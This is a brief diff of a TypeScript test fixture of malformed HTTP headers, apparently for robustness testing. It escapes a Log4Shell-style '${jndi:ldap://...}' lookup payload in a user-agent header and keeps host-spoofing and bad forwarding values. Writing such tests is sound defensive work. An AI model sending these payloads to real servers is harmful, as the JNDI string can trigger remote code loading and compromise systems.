@@ -117,7 +117,7 @@ const oddHeaders: readonly Readonly<Record<string, string | readonly string[]>>[
   { 'x-device-id': '\u00ff'.repeat(500) },
   { 'x-device-id': 'x'.repeat(5000) },
   { 'user-agent': '\u00e9'.repeat(3000) },
-  { 'user-agent': '${jndi:ldap://elsewhere.example/a}' },
+  { 'user-agent': `\${jndi:ldap://elsewhere.example/a}` },
   { 'x-forwarded-for': '999.1.1.1, nonsense', forwarded: 'for="_x"' },
   { 'x-forwarded-host': 'elsewhere.example', 'x-forwarded-proto': 'javascript' },
   { host: 'elsewhere.example' },
